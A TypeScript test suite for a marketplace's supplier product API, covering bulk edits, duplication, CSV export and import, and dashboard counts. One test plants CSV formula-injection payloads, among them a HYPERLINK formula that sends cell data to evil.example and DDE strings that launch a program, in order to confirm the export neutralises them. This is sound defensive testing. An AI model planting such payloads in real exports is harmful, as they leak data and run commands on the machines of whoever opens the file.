import type { CategoryProperty } from '@bazaar/contracts/catalog-properties';
import { parse } from 'csv-parse/sync';
import { and, asc, eq, sql } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signIn } from '../../../test/sessions.js';
import { createTestApp } from '../../../test/test-app.js';
import { categoryProperties, supplierProducts } from '../../db/schema/catalog.js';
import { merchantMembers } from '../../db/schema/customers.js';
import { merchants } from '../../db/schema/merchants.js';
import { outboxEvents } from '../../db/schema/platform.js';

// The supplier's product-list tools (decision 028): bulk edit with ownership per product, duplicate, the CSV
// export (BOM, columns) and import (a Persian error per row and column; all or nothing; a round trip changes
// nothing), and the dashboard's counts.
type Session = Awaited<ReturnType<typeof signIn>>;
let ctx: Awaited<ReturnType<typeof createTestApp>>;
let owner: Session;
let lockedAgent: Session;
let otherOwner: Session;
let merchantId = 0;
let otherMerchantId = 0;
let pumpCategory = 0;
let productIds: number[] = [];
let foreignProductId = 0;
let props: CategoryProperty[] = [];

beforeAll(async () => {
  ctx = await createTestApp({ env: { OTP_RESEND_SECONDS: '0' } });
  owner = await signIn(ctx.app, '09201170001');
  lockedAgent = await signIn(ctx.app, '09201170002');
  otherOwner = await signIn(ctx.app, '09201170003');
  // The merchant of a multistage pump (a category with a count property, «stages»).
  const [stages] = await ctx.db
    .select({ categoryId: categoryProperties.categoryId })
    .from(categoryProperties)
    .where(eq(categoryProperties.key, 'stages'));
  const [pump] = await ctx.db
    .select({ merchantId: supplierProducts.merchantId, categoryId: supplierProducts.categoryId })
    .from(supplierProducts)
    .where(sql`${stages?.categoryId ?? 0} = any(${supplierProducts.categoryPath})`)
    .orderBy(asc(supplierProducts.id))
    .limit(1);
  if (!pump) throw new Error('the seed has no multistage pump');
  merchantId = pump.merchantId;
  pumpCategory = pump.categoryId;
  const [other] = await ctx.db
    .select({ id: merchants.id })
    .from(merchants)
    .where(and(eq(merchants.status, 'confirmed'), sql`${merchants.id} <> ${merchantId}`))
    .limit(1);
  otherMerchantId = other?.id ?? 0;
  await ctx.db.insert(merchantMembers).values([
    { merchantId, userId: owner.userId, role: 'owner' },
    { merchantId, userId: lockedAgent.userId, role: 'agent', manageProducts: false },
    { merchantId: otherMerchantId, userId: otherOwner.userId, role: 'owner' },
  ]);
  const own = await ctx.db
    .select({ id: supplierProducts.id })
    .from(supplierProducts)
    .where(and(eq(supplierProducts.merchantId, merchantId), eq(supplierProducts.status, 'published')))
    .orderBy(asc(supplierProducts.id))
    .limit(2);
  productIds = own.map((p) => p.id);
  const [foreign] = await ctx.db
    .select({ id: supplierProducts.id })
    .from(supplierProducts)
    .where(eq(supplierProducts.merchantId, otherMerchantId))
    .limit(1);
  foreignProductId = foreign?.id ?? 0;
  props = (await call(null, 'GET', `/categories/${pumpCategory}/properties`)).json();
}, 180_000); // a fresh seeded database (PGlite on a busy machine takes its time)
afterAll(() => ctx?.close());

const call = (session: Session | null, method: 'GET' | 'POST' | 'PUT', url: string, payload?: object) =>
  ctx.app.inject({ method, url: `/api/v1${url}`, headers: session?.auth ?? {}, ...(payload ? { payload } : {}) });
const publicPrice = async (id: number) =>
  (await call(null, 'GET', `/supplierproducts/${id}/catalog`)).json().priceRials as number | null;
const editable = async (id: number) => {
  const { updatedAt: _u, ...rest } = (await call(owner, 'GET', `/supplierproducts/${id}/editor`)).json();
  return rest;
};
const exportCsv = () => call(owner, 'GET', `/supplierproducts/export?merchantId=${merchantId}`);
const importCsv = (csv: string, apply: boolean) =>
  call(owner, 'POST', '/supplierproducts/import', { merchantId, csv, apply });

describe('bulk edit', () => {
  it('sets the price of chosen products in one call, one change event per product, public at once', async () => {
    const events = async () =>
      (
        await ctx.db
          .select({ n: sql<number>`count(*)::int` })
          .from(outboxEvents)
          .where(eq(outboxEvents.type, 'catalog.product.changed'))
      )[0]?.n ?? 0;
    const before = await events();
    const response = await call(owner, 'POST', '/supplierproducts/bulk', {
      merchantId,
      ids: productIds,
      priceRials: 123_450_000,
      availability: 'made_to_order',
    });
    expect(response.statusCode).toBe(200);
    expect(response.json()).toMatchObject({ changed: 2 });
    expect(await events()).toBe(before + 2);
    await ctx.drain();
    for (const id of productIds) {
      expect(await publicPrice(id)).toBe(123_450_000);
      const page = (await call(null, 'GET', `/supplierproducts/${id}/catalog`)).json();
      expect(page.availability).toBe('made_to_order');
    }
  });

  it('refuses an agent without the product right, and another merchant’s owner, changing nothing', async () => {
    const body = { merchantId, ids: productIds, priceRials: 1_000_000 };
    const locked = await call(lockedAgent, 'POST', '/supplierproducts/bulk', body);
    expect(locked.statusCode).toBe(403);
    expect(locked.json().code).toBe('CATALOG_NO_PRODUCT_RIGHT');
    const stranger = await call(otherOwner, 'POST', '/supplierproducts/bulk', body);
    expect(stranger.statusCode).toBe(403);
    // Its own merchant with our rows in the selection: the whole request is refused like a missing object.
    const smuggled = await call(otherOwner, 'POST', '/supplierproducts/bulk', {
      merchantId: otherMerchantId,
      ids: [foreignProductId, ...productIds],
      priceRials: 1_000_000,
    });
    expect(smuggled.statusCode).toBe(404);
    // And the owner cannot reach another merchant's row through its own merchant either.
    const reaching = await call(owner, 'POST', '/supplierproducts/bulk', {
      merchantId,
      ids: [productIds[0], foreignProductId],
      status: 'draft',
    });
    expect(reaching.statusCode).toBe(404);
    await ctx.drain();
    for (const id of productIds) expect(await publicPrice(id)).toBe(123_450_000);
    expect((await call(null, 'GET', `/supplierproducts/${foreignProductId}/catalog`)).statusCode).toBe(200);
  });

  it('unpublishes every product matching a filter and the public page is gone', async () => {
    const [first] = productIds;
    const title = (await editable(first ?? 0)).title as string;
    const response = await call(owner, 'POST', '/supplierproducts/bulk', {
      merchantId,
      filter: { q: title, status: 'published' },
      status: 'draft',
    });
    expect(response.statusCode).toBe(200);
    expect(response.json().ids).toContain(first);
    await ctx.drain();
    expect((await call(null, 'GET', `/supplierproducts/${first}/catalog`)).statusCode).toBe(404);
    const listed = (await call(owner, 'GET', '/supplierproducts/mine?status=draft&pageSize=50')).json();
    expect(listed.items.map((p: { id: number }) => p.id)).toContain(first);
    await call(owner, 'POST', '/supplierproducts/bulk', { merchantId, ids: [first], status: 'published' });
  });
});

describe('duplicate', () => {
  it('copies a product as a draft «(کپی)» with its images and property values, never public', async () => {
    const source = await editable(productIds[1] ?? 0);
    const response = await call(owner, 'POST', `/supplierproducts/${productIds[1]}/duplicate`);
    expect(response.statusCode).toBe(201);
    const copy = response.json();
    expect(copy.title).toBe(`${source.title} (کپی)`);
    expect(copy.status).toBe('draft');
    expect(copy.images.map((i: { fileId: string }) => i.fileId)).toEqual(
      source.images.map((i: { fileId: string }) => i.fileId),
    );
    expect(copy.values).toEqual(source.values);
    expect((await call(null, 'GET', `/supplierproducts/${copy.id}/catalog`)).statusCode).toBe(404);
    const again = (await call(owner, 'POST', `/supplierproducts/${productIds[1]}/duplicate`)).json();
    expect(again.title).toBe(`${source.title} (کپی 2)`);
    expect((await call(otherOwner, 'POST', `/supplierproducts/${productIds[1]}/duplicate`)).statusCode).toBe(404);
    expect((await call(lockedAgent, 'POST', `/supplierproducts/${productIds[1]}/duplicate`)).statusCode).toBe(403);
  });
});

describe('spreadsheet export and import', () => {
  it('exports UTF-8 with a byte-order mark and the documented columns', async () => {
    const response = await exportCsv();
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toContain('text/csv');
    expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const [header] = response.body.replace(/^\uFEFF/, '').split('\r\n');
    expect(header).toBe(
      'id,title,model,category_id,category,price_rials,price_on_request,min_order_quantity,sales_unit,availability,status,description,properties,price_tiers,order_multiple,sample_price_rials,tax_code',
    );
    expect(response.body).toContain('123450000');
    expect((await call(otherOwner, 'GET', `/supplierproducts/export?merchantId=${merchantId}`)).statusCode).toBe(403);
  });

  it('leaves every product unchanged when its own export is imported back', async () => {
    const csv = (await exportCsv()).body;
    const ids = [...csv.matchAll(/\r\n(\d+),/g)].map((m) => Number(m[1]));
    expect(ids.length).toBeGreaterThan(2);
    const before = await Promise.all(ids.map(editable));
    const report = (await importCsv(csv, true)).json();
    expect(report.errors).toEqual([]);
    expect(report).toMatchObject({ applied: true, creates: 0, updates: ids.length });
    expect(await Promise.all(ids.map(editable))).toEqual(before);
  });

  it('quotes every cell a spreadsheet would run as a formula and reads it back exactly', async () => {
    // What an agent could plant in the owner's next export: formulas in every text column, and text that
    // really begins with a quote (which must survive the quote the import takes off).
    const planted = [
      {
        title: '=HYPERLINK("https://evil.example/?d="&A2,"مشاهدهٔ قیمت")',
        model: '-2+3+cmd|calc',
        salesUnit: '+دستگاه',
        description: "@SUM(1+1)*cmd|' /C calc'!A0",
      },
      { title: "'پمپ در گیومه", model: "'CDL", salesUnit: "''عدد", description: "'=نوشته، نه فرمول" },
      { title: '-5', model: null, salesUnit: 'عدد', description: '-12.5' },
    ];
    const ids: number[] = [];
    for (const fields of planted) {
      const created = await call(owner, 'POST', '/supplierproducts', {
        merchantId,
        categoryId: pumpCategory,
        priceRials: 1_000_000,
        ...fields,
      });
      expect(created.statusCode, created.body).toBe(201);
      ids.push(created.json().id);
    }
    const csv = (await exportCsv()).body;
    const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
    const row = (id: number | undefined) => rows.find((r) => r.id === String(id));
    expect(row(ids[0])).toMatchObject({
      title: `'${planted[0]?.title}`,
      model: `'${planted[0]?.model}`,
      sales_unit: `'${planted[0]?.salesUnit}`,
      description: `'${planted[0]?.description}`,
    });
    expect(row(ids[1])).toMatchObject({
      title: "''پمپ در گیومه",
      model: "''CDL",
      sales_unit: "'''عدد",
      description: "''=نوشته، نه فرمول",
    });
    // A plain number is a number to a spreadsheet, never a formula: it stays as it is.
    expect(row(ids[2])).toMatchObject({ title: '-5', description: '-12.5' });
    const formulas = rows.flatMap((r) =>
      Object.values(r).filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)),
    );
    expect(formulas).toEqual([]);

    const before = await Promise.all(ids.map(editable));
    const report = (await importCsv(csv, true)).json();
    expect(report.errors).toEqual([]);
    expect(await Promise.all(ids.map(editable))).toEqual(before);
    expect(before.map((p) => p.title)).toEqual(planted.map((p) => p.title));
  });

  it('reads a negative number in a numeric column, quoted or not, and refuses it as a price', async () => {
    const csv = [
      'title,category_id,price_rials,sales_unit',
      `پمپ با قیمت منفی,${pumpCategory},-5,دستگاه`,
      `پمپ با قیمت منفی در گیومه,${pumpCategory},'-5,دستگاه`,
    ].join('\n');
    const report = (await importCsv(csv, true)).json();
    expect(report.applied).toBe(false);
    expect(report.errors).toEqual([
      { row: 2, column: 'قیمت (ریال)', message: 'قیمت «-5» پذیرفته نیست؛ عددی صحیح و مثبت به ریال بنویسید.' },
      { row: 3, column: 'قیمت (ریال)', message: 'قیمت «-5» پذیرفته نیست؛ عددی صحیح و مثبت به ریال بنویسید.' },
    ]);
  });

  it('reports each bad row with its line, column and a Persian message, and applies nothing', async () => {
    const stages = props.find((p) => p.key === 'stages');
    const measured = props.find((p) => p.type === 'number' && p.quantity && !p.integer);
    if (!stages || !measured) throw new Error('the pump category lacks a count or a measured property');
    const csv = [
      'title,category_id,price_rials,sales_unit,properties,model',
      `پمپ تازهٔ درست,${pumpCategory},۲۵۰٬۰۰۰٬۰۰۰,دستگاه,${stages.id}=۳,NEW-1`,
      `پمپ با دستهٔ ناشناخته,99999999,1000,دستگاه,,`,
      `پمپ با قیمت بد,${pumpCategory},دوازده,دستگاه,,`,
      `پمپ با طبقهٔ کسری,${pumpCategory},1000,دستگاه,${stages.id}=5.5,`,
      `پمپ با یکای بد,${pumpCategory},1000,دستگاه,${measured.id}=12 parsec,`,
      `,${pumpCategory},1000,دستگاه,,`,
    ].join('\n');
    const report = (await importCsv(csv, true)).json();
    expect(report.applied).toBe(false);
    const at = (row: number) => report.errors.filter((e: { row: number }) => e.row === row);
    expect(at(2)).toEqual([]);
    expect(at(3)).toEqual([{ row: 3, column: 'شناسهٔ دسته‌بندی', message: 'دسته‌بندی انتخاب‌شده یافت نشد یا فعال نیست.' }]);
    expect(at(4)).toEqual([
      expect.objectContaining({ column: 'قیمت (ریال)', message: expect.stringContaining('دوازده') }),
    ]);
    expect(at(5)).toEqual([
      expect.objectContaining({ column: 'ویژگی‌ها', message: `«${stages.name}» باید عدد صحیح باشد.` }),
    ]);
    expect(at(6)).toEqual([expect.objectContaining({ column: 'ویژگی‌ها', message: expect.stringContaining('parsec') })]);
    expect(at(7)).toEqual([{ row: 7, column: 'عنوان', message: 'ستون «عنوان» را پر کنید.' }]);
    const [created] = await ctx.db
      .select({ id: supplierProducts.id })
      .from(supplierProducts)
      .where(eq(supplierProducts.title, 'پمپ تازهٔ درست'));
    expect(created).toBeUndefined();
  });

  it('creates a new product from a clean file (Persian digits), then updates it by its model code', async () => {
    const stages = props.find((p) => p.key === 'stages');
    const csv = `\uFEFFtitle,model,category_id,price_rials,sales_unit,availability,status,properties\r\nپمپ طبقاتی وارداتی,CDL 4-6,${pumpCategory},۳۱۰٬۰۰۰٬۰۰۰,دستگاه,سفارشی,منتشرشده,${stages?.id}=۶\r\n`;
    const preview = (await importCsv(csv, false)).json();
    expect(preview).toMatchObject({ applied: false, creates: 1, updates: 0, errors: [] });
    const applied = (await importCsv(csv, true)).json();
    expect(applied).toMatchObject({ applied: true, creates: 1 });
    const [row] = await ctx.db
      .select({ id: supplierProducts.id })
      .from(supplierProducts)
      .where(eq(supplierProducts.model, 'CDL 4-6'));
    await ctx.drain();
    const page = (await call(null, 'GET', `/supplierproducts/${row?.id}/catalog`)).json();
    expect(page).toMatchObject({ priceRials: 310_000_000, availability: 'made_to_order', model: 'CDL 4-6' });
    expect(page.properties.find((p: { key: string }) => p.key === 'stages')?.value).toBe(6);
    const update = (await importCsv(csv.replace('۳۱۰٬۰۰۰٬۰۰۰', '320000000'), true)).json();
    expect(update).toMatchObject({ applied: true, creates: 0, updates: 1 });
    await ctx.drain();
    expect(await publicPrice(row?.id ?? 0)).toBe(320_000_000);
  });

  it('reads the شناسه کالا/خدمت in Persian digits, refuses 12 digits in Persian, and exports it back', async () => {
    const csv = [
      'title,category_id,price_rials,sales_unit,tax_code',
      `پمپ با شناسهٔ مودیان,${pumpCategory},1000,دستگاه,۲۷۲۰۰۰۰۱۱۴۵۴۲`,
      `پمپ با شناسهٔ کوتاه,${pumpCategory},1000,دستگاه,۲۷۲۰۰۰۰۱۱۴۵۴`,
    ].join('\n');
    const refused = (await importCsv(csv, true)).json();
    expect(refused.applied).toBe(false);
    expect(refused.errors).toEqual([
      { row: 3, column: 'شناسه کالا/خدمت', message: 'شناسه کالا/خدمت باید ۱۳ رقم باشد (فقط رقم).' },
    ]);
    const applied = (await importCsv(csv.split('\n').slice(0, 2).join('\n'), true)).json();
    expect(applied).toMatchObject({ applied: true, creates: 1, errors: [] });
    const [row] = await ctx.db
      .select({ taxCode: supplierProducts.taxCode })
      .from(supplierProducts)
      .where(eq(supplierProducts.title, 'پمپ با شناسهٔ مودیان'));
    expect(row?.taxCode).toBe('2720000114542');
    expect((await exportCsv()).body).toMatch(/پمپ با شناسهٔ مودیان,.*,2720000114542\r\n/);
  });

  it('refuses a file of more rows than the limit and a row of another merchant’s product', async () => {
    const many = ['title,category_id', ...Array.from({ length: 1001 }, (_, i) => `پمپ ${i},${pumpCategory}`)].join(
      '\n',
    );
    const report = (await importCsv(many, false)).json();
    expect(report.errors[0].message).toContain('۱٬۰۰۰');
    const foreign = (await importCsv(`id,title\n${foreignProductId},ربوده`, true)).json();
    expect(foreign.errors).toEqual([
      { row: 2, column: 'شناسه', message: 'محصولی با این شناسه در فهرست محصولات شما یافت نشد.' },
    ]);
  });
});

describe('dashboard counts', () => {
  it('counts the merchant’s products by state and lists its categories', async () => {
    const summary = (await call(owner, 'GET', `/supplierproducts/summary?merchantId=${merchantId}`)).json();
    const [row] = await ctx.db
      .select({ n: sql<number>`count(*)::int` })
      .from(supplierProducts)
      .where(and(eq(supplierProducts.merchantId, merchantId), eq(supplierProducts.status, 'draft')));
    expect(summary.byStatus.draft).toBe(row?.n);
    expect(summary.byStatus.draft).toBeGreaterThanOrEqual(2);
    expect(summary.categories.map((c: { id: number }) => c.id)).toContain(pumpCategory);
    expect((await call(lockedAgent, 'GET', `/supplierproducts/summary?merchantId=${merchantId}`)).statusCode).toBe(403);
  });
});
